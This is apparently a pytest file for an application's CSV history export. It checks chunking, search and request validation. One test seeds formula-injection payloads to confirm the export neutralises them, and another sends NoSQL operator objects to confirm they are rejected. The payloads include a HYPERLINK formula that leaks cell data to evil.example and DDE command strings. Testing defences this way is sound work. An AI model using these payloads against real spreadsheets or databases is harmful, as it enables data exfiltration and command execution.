import csv
import io
from datetime import UTC, datetime, timedelta

from entrasync_history.adapters.mongo import MongoHistoryStore
from entrasync_shared.messages import HistoryExportChunk, HistoryExportRequest
from entrasync_shared.natsutil import call
from entrasync_shared.subjects import Names
from history_helpers import TENANT, PastRun, ask, seed_runs, starts
from nats.aio.client import Client as NatsClient

HEADER = [
    "Start Time",
    "End Time",
    "Type",
    "Total Objects",
    "Objects Changed",
    "Objects Deleted",
    "Objects Filtered",
    "Status",
    "Mode",
    "Reason",
    "Error",
    "Run Id",
    "Attempts",
]


async def export(nc: NatsClient, names: Names, search: str = "", max_rows: int = 1000) -> bytes:
    """The whole CSV, chunk by chunk, as the console streams it to a browser."""
    out = io.BytesIO()
    after: str | None = None
    while True:
        request = HistoryExportRequest(
            tenant_id=TENANT, search=search, after=after, max_rows=max_rows
        )
        chunk = await call(nc, names.api("history", "runs.export"), request, HistoryExportChunk)
        assert chunk.rows <= max_rows
        out.write(chunk.csv.encode())
        if chunk.next is None:
            return out.getvalue()
        after = chunk.next


async def test_the_export_is_rfc4180_csv_in_bounded_chunks(
    history: None, store: MongoHistoryStore, nc: NatsClient, names: Names
) -> None:
    await seed_runs(store, [PastRun(at) for at in starts(40, timedelta(hours=3))])
    data = await export(nc, names, max_rows=7)
    assert data.endswith(b"\r\n") and b"\n" not in data.replace(b"\r\n", b"")
    table = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert table[0] == HEADER
    assert len(table) == 1 + 120
    starts_seen = [row[0] for row in table[1:]]
    assert starts_seen == sorted(starts_seen, reverse=True)
    first = table[1]
    assert first[2:10] == ["user", "10", "1", "0", "0", "Succeeded", "delta", "schedule"]
    parsed = datetime.strptime(first[0], "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=UTC)
    assert abs(parsed - datetime.now(UTC)) < timedelta(minutes=5)
    assert first[1].endswith("Z") and len(first[1]) == len("2025-01-01T00:00:00.000Z")


async def test_formula_looking_cells_are_neutralised_and_odd_text_is_quoted(
    history: None, store: MongoHistoryStore, nc: NatsClient, names: Names
) -> None:
    nasty = {
        "r-eq": {"user": '=HYPERLINK("http://evil.example/?leak="&A1,"click")'},
        "r-plus": {"user": "+cmd|' /C calc'!A0"},
        "r-minus": {"user": "-2+3"},
        "r-at": {"user": "@SUM(1+1)*cmd|' /C calc'!A0"},
        "r-tab": {"user": "\t=1+1"},
        "r-space": {"user": "  =1+1"},
        "r-quote": {"user": 'said "hello", then\r\nleft'},
    }
    times = iter(starts(len(nasty)))
    await seed_runs(store, [PastRun(next(times), errors, run_id=r) for r, errors in nasty.items()])
    data = await export(nc, names, search="user")
    table = list(csv.reader(io.StringIO(data.decode(), newline="")))
    errors = {row[11]: row[10] for row in table[1:] if row[2] == "user"}
    assert errors == {
        "r-eq": "'" + nasty["r-eq"]["user"],
        "r-plus": "'" + nasty["r-plus"]["user"],
        "r-minus": "'-2+3",
        "r-at": "'" + nasty["r-at"]["user"],
        "r-tab": "'\t=1+1",
        "r-space": "'  =1+1",
        "r-quote": 'said "hello", then\r\nleft',
    }
    assert b'"said ""hello"", then\r\nleft"' in data
    cells = [cell for row in table[1:] for cell in row]
    assert not [c for c in cells if c.lstrip().startswith(("=", "+", "-", "@", "\t"))]


async def test_the_export_follows_the_search_and_refuses_bad_requests(
    history: None, store: MongoHistoryStore, nc: NatsClient, names: Names
) -> None:
    times = iter(starts(4))
    await seed_runs(
        store,
        [
            PastRun(next(times), {"group": "throttled (429) .* again"}, run_id="r-throttled"),
            PastRun(next(times), run_id="r-ok"),
        ],
    )
    table = list(csv.reader(io.StringIO((await export(nc, names, ".*")).decode(), newline="")))
    assert [(row[11], row[2]) for row in table[1:]] == [("r-throttled", "group")]
    nothing = await export(nc, names, "no such text")
    assert nothing.decode().splitlines() == [",".join(HEADER)]
    subject = names.api("history", "runs.export")
    for body, field in (
        ({"tenant_id": TENANT, "search": {"$regex": ".*"}}, "search"),
        ({"tenant_id": TENANT, "after": {"$gt": ""}}, "after"),
        ({"tenant_id": TENANT, "max_rows": 100000}, "max_rows"),
    ):
        reply = await ask(nc, subject, body)
        assert (reply["ok"], reply["error"]["code"], reply["error"]["field"]) == (
            False,
            "validation",
            field,
        )
